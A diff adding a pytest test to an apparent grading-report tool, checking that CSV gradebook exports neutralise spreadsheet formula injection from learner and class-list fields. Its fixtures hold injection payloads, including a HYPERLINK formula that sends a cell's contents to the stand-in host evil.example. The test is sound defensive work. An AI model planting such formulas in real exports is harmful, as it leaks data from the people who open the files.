@@ -147,6 +147,33 @@ def test_a_name_made_to_look_like_a_classmates_takes_no_row_of_the_canvas_gradeb
     assert "matched to the class list by name alone" in notes["Jones, Carol"]
 
 
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_csv_of_the_report_holds_a_formula_from_a_learner_a_platform_or_a_class_list(tmp_path):
+    sources, export = _sources(), tmp_path / "submissions.zip"
+    _gradescope_export(export, [
+        ("-2+3", "+ada@example.edu", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1",
+         {"main.py": sources["full"]}),
+        ("Alan Turing", "alan@example.edu", "S1001", "-1", {"main.py": sources["planted"]}),
+        ("Grace Hopper", "=grace@example.edu", " @SUM(1+1)", "2026-11-19 09:00:00.000000000 -08:00",
+         {"main.py": sources["full"]}),
+    ])
+    class_list = tmp_path / "canvas_export.csv"
+    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"Turing, Alan",=2+3,S1001,@alan,-A\n'
+                          '"=Hopper, Grace",1002,S1002,grace,A\n')
+    out = tmp_path / "out"
+    _report(export, out, "--class-list", class_list, "--gradebook", "canvas", "--gradebook", "moodle",
+            "--similarity")
+    written = sorted(path.name for path in out.glob("*.csv"))
+    assert written == ["checks.csv", "gradebook-canvas.csv", "gradebook-moodle.csv", "grades.csv", "similarity.csv"]
+    for name in written:
+        for row in _read_csv(out / name):
+            assert not [cell for cell in row if cell.lstrip(" \t\r\n").startswith(FORMULA_START)], (name, row)
+    canvas = {row[2]: row for row in _read_csv(out / "gradebook-canvas.csv")[2:]}
+    assert canvas["S1001"][:5] == ["Turing, Alan", "'=2+3", "S1001", "'@alan", "'-A"]
+
+
 def test_canvas_download_submissions_with_a_late_one_and_a_resubmission(tmp_path):
     roster, sources = tmp_path / "roster", _sources()
     roster.mkdir()
